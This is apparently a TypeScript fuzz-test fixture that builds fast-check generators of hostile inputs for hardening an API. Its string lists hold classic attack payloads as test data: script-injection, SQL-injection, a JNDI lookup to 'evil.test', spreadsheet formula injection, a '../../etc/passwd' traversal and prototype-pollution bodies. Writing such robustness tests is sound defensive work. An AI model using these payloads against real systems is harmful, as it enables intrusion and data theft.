/** Values that no honest client sends and that each call must survive. */
import fc from 'fast-check'

const hostileTexts = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffx',
  '\u202eabc\u2066',
  '\u200b',
  '😀'.repeat(40),
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  `\${jndi:ldap://evil.test/a}`,
  `'"--`,
  `'; drop table users; --`,
  '1 OR 1=1',
  '=cmd|calc',
  '%',
  '_',
  '\\',
  '(a+)+$',
  '../../etc/passwd',
  'null',
  'undefined',
  'true',
  '٠١٢٣٤',
  '۱۲۳',
  'x'.repeat(5_000),
  'أ'.repeat(2_000),
  'a@b',
  'a@b.toolong',
  'person@hiwar.test\n',
  '+20 10 0000 0000',
  '0100000000٠',
]

const hostileNumbers = [-1, -0, 0, 0.1, 1e-7, 1.5, 2 ** 31, 2 ** 53, 1e21, 1e308, Number.MIN_SAFE_INTEGER]

const hostileInstants = [
  '2026-02-30T10:00:00.000Z',
  '2026-11-25T10:00:00',
  '2026-11-25',
  '10000-01-01T00:00:00.000Z',
  '+010000-01-01T00:00:00.000Z',
  '-000001-01-01T00:00:00.000Z',
  '0000-01-01T00:00:00.000Z',
  '1969-12-31T23:59:59.999Z',
  '9998-12-31T23:59:59.999Z',
  '9999-12-31T23:59:59.999Z',
  '2026-04-24T00:30:00.000+02:00',
  '2026-11-25T10:00:00.000+99:00',
  '2026-11-25T10:00:00.123456789Z',
  'Infinity',
]

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 3, arbitrary: fc.constantFrom(...hostileNumbers, Number.MAX_SAFE_INTEGER, 999_999) },
  { weight: 2, arbitrary: fc.constantFrom(...hostileInstants) },
  { weight: 2, arbitrary: fc.constantFrom(null, true, false, [], {}, [null], [[]], { length: 1 }, { toString: 1 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      Array.from({ length: 1_000 }, (_, index) => index),
      nested(500),
    ),
  },
)

/** Unknown keys, and keys that could reach a prototype. */
export const hostileKey = fc.constantFrom(
  'nobodyKnowsThisKey',
  '__proto__',
  'constructor',
  'toString',
  '',
  'role',
  'id',
)

function nested(depth: number): unknown {
  return depth === 0 ? 1 : [nested(depth - 1)]
}

/** Bodies that are not a JSON object. */
export const hostileBody = fc.constantFrom(
  '{',
  '[',
  '{"a":',
  '"text"',
  '7',
  'null',
  'true',
  '[]',
  '[1]',
  '\u0000',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  `{"a":${'['.repeat(10_000)}${']'.repeat(10_000)}}`,
  `{"a":"${'x'.repeat(101_000)}"}`,
  '{"a":1,"a":2}',
  '{"n":1e999}',
)

/** A path with this part is malformed: the part is not UTF-8. */
export const malformedPath = '%E0%A4%A'

/** Path parameters as they appear in the address. */
export const hostileParam = fc.constantFrom(
  '0',
  '-1',
  '1.5',
  '1e3',
  '01',
  '2147483648',
  '9007199254740991',
  '9007199254740993',
  '99999999999999999999999',
  '1%20OR%201=1',
  '..%2F1',
  '%00',
  malformedPath,
  '%D9%A1',
  'lesson:',
  'lesson:00000000-0000-4000-8000-000000000000',
  'demo:1',
  '__proto__',
  '%F0%9F%98%80',
  'x'.repeat(300),
  'null',
)

/** Parts of a query as they appear in the address. */
export const hostilePair = fc.constantFrom(
  'page=0',
  'page=-1',
  'page=1e9',
  'page=abc',
  'page=9007199254740993',
  'page=1&page=2',
  'size=0',
  'size=101',
  'size=1&size=1',
  'a[b]=1',
  'a[]=1',
  '__proto__[admin]=1',
  'constructor=1',
  'sort=sideways',
  'sort[]=asc',
  'orderBy=password',
  'search=%00',
  'search=%ED%A0%80',
  `search=${'x'.repeat(10_000)}`,
  'ids=1,,2',
  'ids=-1',
  'ids=99999999999999999999',
  `ids=${Array.from({ length: 101 }, (_, index) => index + 1).join(',')}`,
  'userId=1&userId=2',
  'after=2026-02-30T00:00:00Z',
  'after=2026-12-01T00:00:00Z&before=2026-11-01T00:00:00Z',
  'full=true',
  'full=perhaps',
  'createdAt[gte]=10000-01-01T00:00:00Z',
  'createdAt[between]=1',
  'weeklyMinutes[gte]=1e400',
  'unknown=1',
  '=',
  '&&&',
  '%',
)
